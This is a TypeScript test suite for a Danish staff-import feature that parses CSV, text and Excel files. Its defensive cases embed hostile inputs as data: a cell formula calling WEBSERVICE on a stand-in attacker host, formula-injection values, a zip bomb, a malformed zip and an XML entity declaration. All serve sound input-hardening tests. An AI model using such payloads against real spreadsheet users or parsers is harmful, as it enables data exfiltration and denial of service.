import { describe, expect, it } from 'vitest';
import { layoutOf } from '../../src/user-import/columns.ts';
import { errorsCsv, templateCsv } from '../../src/user-import/csv.ts';
import { readFileSource, readTextSource } from '../../src/user-import/read-source.ts';
import type { Source } from '../../src/user-import/read-source.ts';
import { resolveRoles } from '../../src/user-import/roles-typed.ts';
import { makeSorCode } from '../../src/shared/danish-numbers.ts';
import { withFile, workbookOf, xlsxOf, zipOf } from '../support/import-files.ts';

const fileOf = (content: string | Buffer, name = 'brugere.xlsx'): Promise<Source> =>
  withFile(content, (file) => readFileSource(file, name));
const header = 'Fornavn;Efternavn;E-mail;RID';
const row = (rid: string) => `Åse;Ærø;aase@eksempel.dk;${rid}`;
const unit = makeSorCode(4711);

async function refusalOf(reading: Promise<unknown>): Promise<{ status: number; message: string }> {
  try {
    await reading;
  } catch (error) {
    return { status: (error as { status: number }).status, message: (error as Error).message };
  }
  throw new Error('it was read');
}

describe('columns', () => {
  it.each([
    [['Fornavn', 'Efternavn', 'E-mail', 'RID'], true],
    [['First name', 'SURNAME', 'e mail', 'Employee number'], true],
    [['Åse', 'Ærø', 'aase@eksempel.dk', '0012'], false],
  ])('are found in %j', (first, hasHeader) => {
    const layout = layoutOf(first);
    expect(layout.hasHeader).toBe(hasHeader);
    expect(layout.places.get('rid')).toBe(3);
  });

  it('that mean nothing here are told, and those of our own error file are not', () => {
    expect(layoutOf(['RID', 'Afdeling', 'Fornavn', 'Række', 'Fejl']).ignored).toEqual(['Afdeling']);
  });

  it.each([
    [['Fornavn', 'Efternavn', 'E-mail'], 'kolonne med overskriften RID'],
    [['RID', 'Fornavn', 'rid-nummer'], 'RID står to gange'],
    [['noget', 'andet'], 'kan ikke genkende kolonnerne'],
  ])('that cannot be used are refused: %j', (first, message) => {
    expect(() => layoutOf(first)).toThrow(message);
  });
});

describe('a text', () => {
  it.each([
    ['semicolons', `${header}\r\n${row('0012')}\r\n`],
    ['tabs', `${header}\n${row('0012')}`.replaceAll(';', '\t')],
    ['commas', `${header}\n${row('0012')}`.replaceAll(';', ',')],
    ['a byte order mark', `\uFEFF${header}\n${row('0012')}`],
    ['protected codes', `${header}\n${row('"=""0012"""')}`],
    ['unquoted protected codes', `${header}\n${row('="0012"')}`],
  ])('with %s is read', async (_what, text) => {
    const { rows } = await readTextSource(text, 'x');
    expect(rows).toMatchObject([{ line: 2, firstName: 'Åse', rid: '0012', fault: null }]);
  });

  it('keeps the row numbers of Excel when rows are empty or cells have several lines', async () => {
    const { rows } = await readTextSource(`${header};Bemærkning\n\n${row('1')};"to\nlinjer"\n\n${row('2')};\n`, 'x');
    expect(rows.map(({ line, rid, remark }) => [line, rid, remark])).toEqual([
      [3, '1', 'to\nlinjer'],
      [5, '2', null],
    ]);
  });

  it('of an older program is read with its letters', async () => {
    const { rows } = await fileOf(Buffer.from(`${header}\n${row('1')}`, 'latin1'), 'gammel.csv');
    expect(rows[0]).toMatchObject({ firstName: 'Åse', lastName: 'Ærø' });
  });

  it('of Excel’s Unicode-tekst is read', async () => {
    const text = Buffer.from(`\uFEFF${header}\n${row('1')}`.replaceAll(';', '\t'), 'utf16le');
    expect((await fileOf(text, 'x.txt')).rows[0]).toMatchObject({ firstName: 'Åse' });
  });

  it.each([
    ['Åse;Ærø;aase@;1', 'Skriv e-mailadressen som'],
    ['Åse;Ærø;a@b.dk;', 'Skriv RID-nummer'],
    ['=1+1;Ærø;a@b.dk;1', 'Formler regnes ikke ud'],
    ['Å\u0000se;Ærø;a@b.dk;1', 'tegn'],
    [`${'x'.repeat(101)};Ærø;a@b.dk;1`, 'højst fylde 100'],
  ])('tells what is wrong with %j', async (line, fault) => {
    const { rows } = await readTextSource(`${header}\n${line}`, 'x');
    expect(rows[0]?.fault ?? '').toMatch(fault === 'tegn' ? /^$/ : fault);
    expect(JSON.stringify(rows)).not.toContain('\\u0000');
  });

  it('reads roles, units, scopes and dates', async () => {
    const more = `${header};Rolle;SOR-kode;Omfang;Startdato;Slutdato`;
    const lines = [
      `R;${unit};Denne enhed og underenheder;01-02-2027;2027-03-01`,
      `R;${unit};Denne enhed;46388;1/3/2027`,
      `R;0;3;;`,
      `R;${unit.slice(0, -1)}0;Denne enhed;;`,
      `R;;;01-02-2027;01-01-2027`,
      `;${unit};;;`,
      `R;;halvt;31-02-2027;`,
    ].map((rest, index) => `${row(String(index))};${rest}`);
    const { rows } = await readTextSource([more, ...lines].join('\n'), 'x');
    expect(rows.map(({ sorCode, scope, startsOn, endsOn }) => [sorCode, scope, startsOn, endsOn]).slice(0, 3)).toEqual([
      [unit, 'UNIT_AND_SUBUNITS', '2027-02-01', '2027-03-01'],
      [unit, 'UNIT_ONLY', '2027-01-01', '2027-03-01'],
      [null, 'UNIT_AND_SUBUNITS', null, null],
    ]);
    expect(rows.map(({ fault }) => fault?.split(' ')[0] ?? null)).toEqual([
      null,
      null,
      null,
      'SOR-koden',
      'Slutdatoen',
      'Skriv',
      'Skriv',
    ]);
  });

  it('must say the same of a person in all rows of a RID', async () => {
    const { rows } = await readTextSource(`${header}\n${row('1')}\n;;;1\nÅse;Øst;;1`, 'x');
    expect(rows.map(({ fault }) => fault)).toEqual([
      null,
      null,
      expect.stringContaining('række 2 med en anden efternavn'),
    ]);
  });

  it('with an open quote is refused with the row', async () => {
    expect(await refusalOf(readTextSource(`${header}\n${row('1')}\n"åben;b;c;d`, 'x'))).toMatchObject({ status: 422 });
  });

  it('of more rows than can be judged is refused', async () => {
    const text = `${header}\n${`${row('1')}\n`.repeat(25_001)}`;
    expect(await refusalOf(readTextSource(text, 'x'))).toMatchObject({ status: 413 });
  });
});

describe('an Excel file', () => {
  it('as a program writes it is read, with its dates', async () => {
    const content = await xlsxOf([
      ['Fornavn', 'Efternavn', 'E-mail', 'RID', 'Startdato', 'Rolle'],
      ['Åse', 'Ærø', 'aase@eksempel.dk', '0012', new Date(Date.UTC(2027, 0, 31)), 'R'],
      [null, null, null, 62508646000418, null, null],
    ]);
    const { rows, ignoredColumns } = await fileOf(content);
    expect(ignoredColumns).toEqual([]);
    expect(rows).toMatchObject([
      { line: 2, firstName: 'Åse', rid: '0012', startsOn: '2027-01-31', fault: null },
      { line: 3, firstName: null, rid: '62508646000418', fault: null },
    ]);
  });

  const text = (value: string) => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
  const head = `<row r="1">${['Fornavn', 'Efternavn', 'E-mail', 'RID'].map(text).join('')}</row>`;

  it('with shared, inline and rich texts, gaps and formulas is read without calculating', async () => {
    const sheet = `${head}<row r="4"><c r="A4" t="s"><v>1</v></c><c r="B4" t="s"><v>0</v></c>
      <c r="C4" t="str"><f>A4&amp;"@eksempel.dk"</f><v>aase@eksempel.dk</v></c><c r="D4"><v>6.2508646000418E13</v></c></row>
      <row r="5"><c r="D5" t="str"><f>WEBSERVICE("http://evil.example")</f></c></row>
      <row r="6"><c r="D6"><v>1.23456789012345678E17</v></c></row><row r="7"><c r="D7" t="e"><v>#N/A</v></c></row>`;
    const shared = `<si><t>Ærø</t></si><si><r><t>Å</t></r><r><t>se</t></r><rPh><t>furigana</t></rPh></si>`;
    const { rows } = await fileOf(workbookOf(sheet, shared));
    expect(rows[0]).toMatchObject({
      line: 4,
      firstName: 'Åse',
      lastName: 'Ærø',
      email: 'aase@eksempel.dk',
      rid: '62508646000418',
      fault: null,
    });
    expect(rows.slice(1).map(({ fault }) => fault)).toEqual([
      expect.stringContaining('formel uden værdi'),
      expect.stringContaining('rundet af'),
      expect.stringContaining('fejl i Excel'),
    ]);
  });

  it.each<[string, () => Buffer | string, number, string]>([
    ['a zip bomb', () => workbookOf(`${head}${' '.repeat(60_000_000)}`), 413, 'pakker mere ud'],
    [
      'more than its directory says',
      () => zipOf([{ name: 'xl/workbook.xml', content: 'x'.repeat(9000), claims: 10 }]),
      422,
      'beskadiget',
    ],
    ['another zip', () => zipOf([{ name: 'word/document.xml', content: '<a/>' }]), 415, 'ikke en Excel-fil'],
    ['a zip that is cut off', () => workbookOf(head).subarray(0, 300), 422, 'beskadiget'],
    ['entities of its own', () => workbookOf(head, null, '<!DOCTYPE a [<!ENTITY b "c">]>'), 422, 'beskadiget'],
    ['broken XML', () => workbookOf('<row><c></row>'), 422, 'beskadiget'],
    ['an old Excel file', () => Buffer.from('d0cf11e0a1b11ae100000000', 'hex'), 415, 'gammel Excel-fil'],
    ['a PDF', () => '%PDF-1.7\nhej', 415, 'hverken'],
    ['a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 415, 'hverken'],
    ['nothing', () => '', 422, 'tom'],
    ['only a header', () => workbookOf(head), 422, 'ingen rækker'],
  ])('that holds %s is refused', async (_what, content, status, message) => {
    const refused = await refusalOf(fileOf(content()));
    expect(refused).toEqual({ status, message: expect.stringContaining(message) });
  });

  it('with more rows than can be judged is refused', async () => {
    const rows = Array.from({ length: 25_002 }, (_, index) => `<row r="${index + 1}"><c><v>${index}</v></c></row>`);
    expect(await refusalOf(fileOf(workbookOf(rows.join(''))))).toMatchObject({ status: 413 });
  });
});

describe('roles', () => {
  const roles = [
    { id: 1, code: 'laege', name: 'Læge', service: 'FMK', serviceName: 'Fælles Medicinkort', isWithinArea: true },
    { id: 2, code: 'laege', name: 'Læge', service: 'DDV', serviceName: 'Vaccination', isWithinArea: true },
    { id: 3, code: 'sosu', name: 'Sosu', service: 'FMK', serviceName: 'Fælles Medicinkort', isWithinArea: true },
    { id: 4, code: 'kok', name: 'Kok', service: 'KØK', serviceName: 'Køkken', isWithinArea: false },
  ];
  it.each([
    ['SOSU', 3],
    ['fmk/Laege', 1],
    ['Vaccination / Læge', 2],
  ])('are found as %s', (text, id) => {
    expect(resolveRoles([text], roles)).toEqual([{ text, id, fault: null }]);
  });
  it('outside the administrator’s area are none to give', () => {
    expect(resolveRoles(['kok'], roles)).toEqual([
      { text: 'kok', id: null, fault: expect.stringContaining('uden for dit ansvarsområde') },
    ]);
  });
  it('are never guessed at', () => {
    expect(resolveRoles(['læge', 'ukendt'], roles).map(({ fault }) => fault)).toEqual([
      expect.stringContaining('Flere roller'),
      expect.stringContaining('kan ikke tildele'),
    ]);
  });
});

describe('the file of rows with faults', () => {
  const bad = {
    line: 7,
    cells: ['=HYPERLINK("x")', 'Ær;ø', '@x', '00418823', '', '', '', '+45 44', '', '', unit, '', '', ''],
    kind: 'ERROR' as const,
    reason: 'typed',
    about: '-fejl',
    note: null,
    userId: null,
    isLeader: false,
    givesRole: false,
    changes: {},
    isDone: false,
    userName: null,
    roleName: null,
    unitName: null,
  };
  it('holds nothing that Excel calculates, and comes back as it was', async () => {
    const csv = errorsCsv([bad]);
    expect(csv).toContain(`"'=HYPERLINK(""x"")";"Ær;ø";'@x;"=""00418823"""`);
    const { rows, ignoredColumns } = await readTextSource(csv, 'x');
    expect(ignoredColumns).toEqual([]);
    expect(rows[0]?.cells.slice(0, 11)).toEqual(bad.cells.slice(0, 11));
  });
  it('and the template have the columns that are read', () => {
    expect(layoutOf(templateCsv().trim().split(';')).places.size).toBe(14);
  });
});
